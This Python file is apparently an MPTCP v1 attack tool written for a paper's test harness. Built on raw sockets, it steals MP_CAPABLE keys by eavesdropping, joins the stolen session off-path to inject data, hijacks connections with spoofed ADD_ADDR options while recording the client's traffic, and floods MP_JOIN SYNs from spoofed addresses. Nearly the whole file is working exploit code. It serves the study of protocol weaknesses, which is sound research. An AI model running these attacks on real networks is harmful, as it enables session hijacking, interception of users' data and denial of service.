#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""The MPTCP v1 (RFC 8684) attacker of the paper's discussion, on raw sockets.

  eavesdrop IFACE PORT OUT.json    passive tap: reads the keys of MP_CAPABLE
                                   and the TCP/DSS state of the first subflow
  inject STATE IFACE SRC DST PORT DATA
                                   off-path: MP_JOIN with the eavesdropped keys
                                   from SRC, then DATA at the next data
                                   sequence number (DSS mapping)
  addaddr STATE IFACE ADDR MODE OUT.json MARKER
                                   RFC 7430 section 2: a spoofed ADD_ADDR for
                                   ADDR on the first subflow (MODE=keys: HMAC
                                   from the eavesdropped keys, MODE=nokeys: a
                                   guessed one), then plays the server for the
                                   join that follows and records the payload
  flood DST PORT TOKEN SECONDS PPS OUT.json
                                   MP_JOIN SYNs from 10.7.9.0/24 addresses

Keys and tokens follow RFC 8684: token = the most significant 32 bits of
SHA-256(key), IDSN = its least significant 64 bits; MP_JOIN HMACs are
HMAC-SHA256(key=Key-A||Key-B, msg=R-A||R-B), sent truncated to 64 bits
(SYN/ACK) and 160 bits (third ACK); ADD_ADDR's HMAC is the rightmost 64 bits
of HMAC-SHA256(key=Key-sender||Key-receiver, msg=id||addr||port).
No scapy: packets are built and parsed here, checksums included.
"""
import errno
import hashlib
import hmac
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 3
TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
MPTCP_KIND = 30
MP_CAPABLE, MP_JOIN, DSS, ADD_ADDR = 0, 1, 2, 3


def token_of(key):
    return hashlib.sha256(struct.pack('>Q', key)).digest()[:4]


def idsn_of(key):
    return struct.unpack('>Q', hashlib.sha256(struct.pack('>Q', key)).digest()[24:])[0]


def mp_hmac(key1, key2, msg):
    return hmac.new(struct.pack('>QQ', key1, key2), msg, hashlib.sha256).digest()


# ---- packets ---------------------------------------------------------------

def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def tcp_packet(src, dst, sport, dport, seq, ack, flags, opts=b'', payload=b'', win=64240):
    opts += b'\x01' * (-len(opts) % 4)          # NOP padding
    off = (20 + len(opts)) // 4
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                      off << 4, flags, win, 0, 0) + opts + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000,
                     64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return ip + tcp


class Pkt:
    """A parsed IPv4/TCP frame; mp holds the MPTCP options by subtype."""

    def __init__(self, frame):
        self.ok = False
        if len(frame) < 34 or frame[12:14] != b'\x08\x00':
            return
        ip = frame[14:]
        if ip[0] >> 4 != 4 or ip[9] != 6:
            return
        ihl = (ip[0] & 15) * 4
        tot = struct.unpack('!H', ip[2:4])[0]
        self.src, self.dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        tcp = ip[ihl:tot]
        (self.sport, self.dport, self.seq, self.ack, off, self.flags,
         self.win) = struct.unpack('!HHIIBBH', tcp[:16])
        hl = (off >> 4) * 4
        self.payload = tcp[hl:]
        self.ts = None
        self.mp = {}
        o = tcp[20:hl]
        i = 0
        while i < len(o):
            kind = o[i]
            if kind == 0:
                break
            if kind == 1:
                i += 1
                continue
            if i + 1 >= len(o) or o[i + 1] < 2:
                break
            ln = o[i + 1]
            body = o[i:i + ln]
            if kind == 8 and ln == 10:
                self.ts = struct.unpack('!II', body[2:10])
            elif kind == MPTCP_KIND and ln >= 3:
                self.mp[body[2] >> 4] = body
            i += ln
        self.ok = True

    def seg_len(self):
        return len(self.payload) + (1 if self.flags & (TCP_SYN | TCP_FIN) else 0)


def parse_dss(body):
    """(data_ack or None, dsn or None, ssn, dll) of a DSS option."""
    flags = body[3]
    i = 4
    ack = dsn = None
    ssn = dll = 0
    if flags & 0x01:
        n = 8 if flags & 0x02 else 4
        ack = int.from_bytes(body[i:i + n], 'big')
        i += n
    if flags & 0x04:
        n = 8 if flags & 0x08 else 4
        dsn = int.from_bytes(body[i:i + n], 'big')
        i += n
        ssn, dll = struct.unpack('!IH', body[i:i + 6])
    return ack, dsn, ssn, dll


def sniffer(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    return s


def raw_sender():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def send(raw, pkt):
    raw.sendto(pkt, (socket.inet_ntoa(pkt[16:20]), 0))


def wait_for(sock, match, timeout):
    """The first frame on sock for which match(Pkt) holds, or None."""
    end = time.time() + timeout
    while time.time() < end:
        r, _, _ = select.select([sock], [], [], max(0.0, end - time.time()))
        if not r:
            break
        frame, addr = sock.recvfrom(70000)
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        p = Pkt(frame)
        if p.ok and match(p):
            return p
    return None


# ---- the passive eavesdropper ------------------------------------------------

def eavesdrop(iface, port, out):
    """Taps iface until out + '.stop' exists, then writes what it learnt.

    The client is the side that sent the SYN to port.  For each direction it
    keeps the next TCP sequence number, the last ACK, timestamps and window,
    and the last data ACK the other side sent (= the next data sequence
    number it expects)."""
    s = sniffer(iface)
    st = {'client': None, 'server': None, 'key_c': None, 'key_s': None,
          'c': {}, 's': {}, 'frames': 0}
    stop = out + '.stop'
    open(out + '.ready', 'w').close()
    settled = None
    while not os.path.exists(stop):
        # done once the client's data is acknowledged at the data level
        if settled is None and st['c'].get('data_nxt') and st['s'].get('data_ack', 0) >= st['c']['data_nxt']:
            settled = time.time()
        if settled and time.time() - settled > 0.3:
            break
        r, _, _ = select.select([s], [], [], 0.1)
        if not r:
            continue
        frame, _ = s.recvfrom(70000)
        p = Pkt(frame)
        if not p.ok or port not in (p.sport, p.dport):
            continue
        st['frames'] += 1
        to_server = p.dport == port
        d = st['c'] if to_server else st['s']
        if p.flags & TCP_SYN and to_server and not p.flags & TCP_ACK:
            st['client'] = [p.src, p.sport]
            st['server'] = [p.dst, p.dport]
        body = p.mp.get(MP_CAPABLE)
        if body is not None:
            if len(body) >= 12 and not to_server:       # SYN/ACK: the server's key
                st['key_s'] = int.from_bytes(body[4:12], 'big')
            if len(body) >= 20 and to_server:           # third ACK: both keys
                st['key_c'] = int.from_bytes(body[4:12], 'big')
                st['key_s'] = int.from_bytes(body[12:20], 'big')
            if len(body) >= 22 and to_server:           # first data: its length
                dll = struct.unpack('!H', body[20:22])[0]
                d['data_nxt'] = max(d.get('data_nxt', 0), idsn_of(st['key_c']) + 1 + dll)
        nxt = (p.seq + p.seg_len()) & 0xffffffff
        if 'nxt' not in d or ((nxt - d['nxt']) & 0xffffffff) < 0x80000000:
            d['nxt'] = nxt
        if p.flags & TCP_ACK:
            d['ack'] = p.ack
        d['win'] = p.win
        if p.ts:
            d['tsval'], d['tsecr'] = p.ts
            d['ts_at'] = time.time()
        if DSS in p.mp:
            ack, dsn, ssn, dll = parse_dss(p.mp[DSS])
            if ack is not None:
                d['data_ack'] = ack
            if dsn is not None and dll:
                d['data_nxt'] = max(d.get('data_nxt', 0), dsn + dll)
    with open(out + '.tmp', 'w') as f:
        json.dump(st, f)
    os.rename(out + '.tmp', out)


def load_state(path):
    with open(path) as f:
        st = json.load(f)
    if st['key_c'] is None or st['key_s'] is None:
        sys.exit('eavesdrop: no MP_CAPABLE keys seen (%d frames)' % st['frames'])
    return st


# ---- MP_JOIN + DSS injection ------------------------------------------------

def inject(state, iface, src, dst, port, data):
    st = load_state(state)
    key_a, key_b = st['key_c'], st['key_s']      # we pose as the client (A)
    raw, sn = raw_sender(), sniffer(iface)
    sport = random.randrange(20000, 60000)
    isn = random.randrange(1 << 32)
    r_a = os.urandom(4)
    mss = struct.pack('!BBH', 2, 4, 1400)
    join_syn = struct.pack('!BBBB', MPTCP_KIND, 12, MP_JOIN << 4, 7) + token_of(key_b) + r_a
    report = {'sport': sport, 'token': token_of(key_b).hex()}
    synack = None
    for _ in range(3):
        send(raw, tcp_packet(src, dst, sport, port, isn, 0, TCP_SYN, mss + join_syn))
        synack = wait_for(sn, lambda p: p.src == dst and p.sport == port and p.dport == sport
                          and p.flags & (TCP_SYN | TCP_RST), 3)
        if synack:
            break
    if not synack or not synack.flags & TCP_SYN or MP_JOIN not in synack.mp:
        report['stage'] = 'no SYN/ACK with MP_JOIN (got %s)' % (
            'RST' if synack and synack.flags & TCP_RST else 'nothing' if not synack else 'plain SYN/ACK')
        return report
    body = synack.mp[MP_JOIN]
    hmac_b, r_b = body[4:12], body[12:16]
    report['synack_hmac_ok'] = hmac_b == mp_hmac(key_b, key_a, r_b + r_a)[:8]
    srv_isn = synack.seq
    join_ack = struct.pack('!BBBB', MPTCP_KIND, 24, MP_JOIN << 4, 0) + mp_hmac(key_a, key_b, r_a + r_b)[:20]
    send(raw, tcp_packet(src, dst, sport, port, isn + 1, srv_isn + 1, TCP_ACK, join_ack))
    time.sleep(0.3)
    # the data: mapped at the data sequence number the server expects next
    dsn = st['s'].get('data_ack')
    if dsn is None:
        dsn = idsn_of(key_a) + 1 + 0
    data_ack = st['c'].get('data_ack', idsn_of(key_b) + 1)
    dss = struct.pack('!BBBBQQIH', MPTCP_KIND, 26, DSS << 4, 0x0f, data_ack, dsn, 1, len(data))
    send(raw, tcp_packet(src, dst, sport, port, isn + 1, srv_isn + 1, TCP_PSH | TCP_ACK, dss, data))
    report['dsn'] = dsn
    # the server acknowledges at the subflow level, and its DATA_ACK moves on
    ack = wait_for(sn, lambda p: p.src == dst and p.dport == sport and
                   (p.ack - isn - 1) & 0xffffffff >= len(data) or (p.flags & TCP_RST and p.dport == sport), 3)
    if ack is None:
        report['stage'] = 'joined; no ACK for the injected data'
    elif ack.flags & TCP_RST:
        report['stage'] = 'joined; the server reset the subflow after the data'
    else:
        da = parse_dss(ack.mp[DSS])[0] if DSS in ack.mp else None
        report['stage'] = 'data acknowledged'
        report['data_ack_after'] = da
        report['data_acked'] = da is not None and da >= dsn + len(data)
    send(raw, tcp_packet(src, dst, sport, port, isn + 1 + len(data), srv_isn + 1, TCP_RST | TCP_ACK))
    return report


# ---- ADD_ADDR hijack --------------------------------------------------------

def addaddr(state, iface, addr, mode, marker, spoofed):
    """The RFC 7430 hijack.  The spoof goes out while the client is idle, so
    that the ACK number read off the capture is still current: the caller
    lets the client send again only once the file spoofed exists, which it
    does as soon as the join is answered or the attempts are over."""
    st = load_state(state)
    key_s, key_c = st['key_s'], st['key_c']
    (c_ip, c_port), (s_ip, s_port) = st['client'], st['server']
    raw, sn = raw_sender(), sniffer(iface)
    addr_id = 9
    msg = bytes([addr_id]) + socket.inet_aton(addr) + b'\0\0'
    if mode == 'keys':
        trunc = mp_hmac(key_s, key_c, msg)[-8:]
    else:
        trunc = os.urandom(8)
    opt = struct.pack('!BBBB', MPTCP_KIND, 16, ADD_ADDR << 4, addr_id) + socket.inet_aton(addr) + trunc
    s, c = st['s'], st['c']
    report = {'mode': mode, 'addr': addr, 'sent': 0}
    syn = None
    # a pure ACK from the server's address on the first subflow, in window;
    # sent up to three times (a TCP check may drop one: the timestamp is
    # an estimate), each followed by a wait for the client's join (5 s: the
    # path manager's worker opens it, late on a loaded TCG host)
    for _ in range(3):
        ts = b''
        if 'tsval' in s:
            # Linux timestamps tick in milliseconds: one from the past would
            # fail PAWS, one ahead of the server's clock is accepted
            tsval = s['tsval'] + int((time.time() - s['ts_at']) * 1000) + 1000
            ts = b'\x01\x01' + struct.pack('!BBII', 8, 10, tsval & 0xffffffff, c.get('tsval', 0))
        send(raw, tcp_packet(s_ip, c_ip, s_port, c_port, s['nxt'], c['nxt'], TCP_ACK, ts + opt,
                             win=s.get('win', 502)))
        report['sent'] += 1
        syn = wait_for(sn, lambda p: p.dst == addr and p.flags & TCP_SYN and not p.flags & TCP_ACK, 5)
        if syn:
            break
    report['join_syn'] = bool(syn and MP_JOIN in syn.mp)
    if not report['join_syn']:
        open(spoofed, 'w').close()
        return report
    # play the server: SYN/ACK with HMAC-B, then ACK the third ACK
    r_a = syn.mp[MP_JOIN][8:12]
    report['join_token_ok'] = syn.mp[MP_JOIN][4:8] == token_of(key_s)
    r_b = os.urandom(4)
    isn = random.randrange(1 << 32)
    body = struct.pack('!BBBB', MPTCP_KIND, 16, MP_JOIN << 4, addr_id) + mp_hmac(key_s, key_c, r_b + r_a)[:8] + r_b
    mss = struct.pack('!BBH', 2, 4, 1400)
    send(raw, tcp_packet(addr, syn.src, syn.dport, syn.sport, isn, syn.seq + 1, TCP_SYN | TCP_ACK, mss + body))
    third = wait_for(sn, lambda p: p.dst == addr and p.sport == syn.sport and p.flags & TCP_ACK, 5)
    report['third_ack'] = bool(third and MP_JOIN in third.mp)
    if third and MP_JOIN in third.mp:
        report['third_ack_hmac_ok'] = third.mp[MP_JOIN][4:24] == mp_hmac(key_c, key_s, r_a + r_b)[:20]
    # the fourth ACK carries a DATA_ACK: the join subflow is then fully
    # established for the client, which may schedule data on it
    data_ack = st['c'].get('data_nxt') or st['s'].get('data_ack') or idsn_of(key_c) + 1
    dack = struct.pack('!BBBBQ', MPTCP_KIND, 12, DSS << 4, 0x03, data_ack)
    rcv_nxt = syn.seq + 1
    send(raw, tcp_packet(addr, syn.src, syn.dport, syn.sport, isn + 1, rcv_nxt, TCP_ACK, dack))
    open(spoofed, 'w').close()
    # record what the client sends us, acknowledged at the subflow level so
    # that the path looks healthy (the data level is left to the real server),
    # until enough to judge has come: a fixed window (6 s) once missed all of
    # it when CI's host was loaded and the client started late
    got = {}
    enough = 256 << 10
    end = time.time() + 30
    while time.time() < end and sum(map(len, got.values())) < enough:
        p = wait_for(sn, lambda p: p.dst == addr and p.sport == syn.sport and p.payload, end - time.time())
        if p:
            got[p.seq] = p.payload
            if p.seq == rcv_nxt:
                rcv_nxt = (p.seq + len(p.payload)) & 0xffffffff
            send(raw, tcp_packet(addr, syn.src, syn.dport, syn.sport, isn + 1, rcv_nxt, TCP_ACK, dack))
    stream = b''.join(got[k] for k in sorted(got))
    report['payload_bytes'] = len(stream)
    report['marker_seen'] = marker.encode() in stream
    report['tls_records_seen'] = stream[:3] in (b'\x17\x03\x03',) or b'\x17\x03\x03' in stream
    report['payload_head'] = stream[:24].hex()
    send(raw, tcp_packet(addr, syn.src, syn.dport, syn.sport, isn + 1, syn.seq + 1, TCP_RST | TCP_ACK))
    return report


# ---- MP_JOIN SYN flood -------------------------------------------------------

def flood(dst, port, token, seconds, pps):
    raw = raw_sender()
    tok = bytes.fromhex(token) if token != 'random' else None
    mss = struct.pack('!BBH', 2, 4, 1400)
    # a pool of prebuilt SYNs (addresses, ports, nonces vary), sent in a loop
    pool = []
    for i in range(512):
        t = tok or os.urandom(4)
        opt = struct.pack('!BBBB', MPTCP_KIND, 12, MP_JOIN << 4, i & 0xff) + t + os.urandom(4)
        src = '10.7.9.%d' % (1 + i % 250)
        pool.append(tcp_packet(src, dst, 1024 + random.randrange(60000), port,
                               random.randrange(1 << 32), 0, TCP_SYN, mss + opt))
    dest = (dst, 0)

    def stop(*_):
        raise KeyboardInterrupt
    signal.signal(signal.SIGTERM, stop)
    sent = dropped = 0
    start = time.time()
    end = start + seconds
    try:
        while time.time() < end:
            now = time.time()
            due = int((now - start) * pps)
            while sent + dropped < due:
                try:
                    raw.sendto(pool[sent % len(pool)], dest)
                    sent += 1
                except (BlockingIOError, OSError) as e:
                    # a full device queue on a loaded host: a flood
                    # drops and goes on, it must not end the attack
                    if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                        raise
                    dropped += 1
                    break
            time.sleep(0.002)
    except KeyboardInterrupt:
        pass
    el = time.time() - start
    return {'sent': sent, 'dropped': dropped, 'seconds': round(el, 2), 'pps': round(sent / el)}


def main(argv):
    cmd = argv[1]
    if cmd == 'eavesdrop':
        eavesdrop(argv[2], int(argv[3]), argv[4])
        return
    if cmd == 'inject':
        data = argv[7].encode()
        if data.startswith(b'record:'):
            # shaped like a TLS 1.3 application data record: header, then the
            # text where ciphertext and tag belong (the attacker has no key)
            body = data[7:].ljust(48, b';')
            data = b'\x17\x03\x03' + struct.pack('!H', len(body)) + body
        r = inject(argv[2], argv[3], argv[4], argv[5], int(argv[6]), data)
    elif cmd == 'addaddr':
        r = addaddr(argv[2], argv[3], argv[4], argv[5], argv[7], argv[6] + '.spoofed')
        with open(argv[6], 'w') as f:
            json.dump(r, f)
    elif cmd == 'flood':
        r = flood(argv[2], int(argv[3]), argv[4], float(argv[5]), int(argv[6]))
        with open(argv[7], 'w') as f:
            json.dump(r, f)
    else:
        sys.exit('usage: see the docstring')
    print(json.dumps(r))


if __name__ == '__main__':
    main(sys.argv)
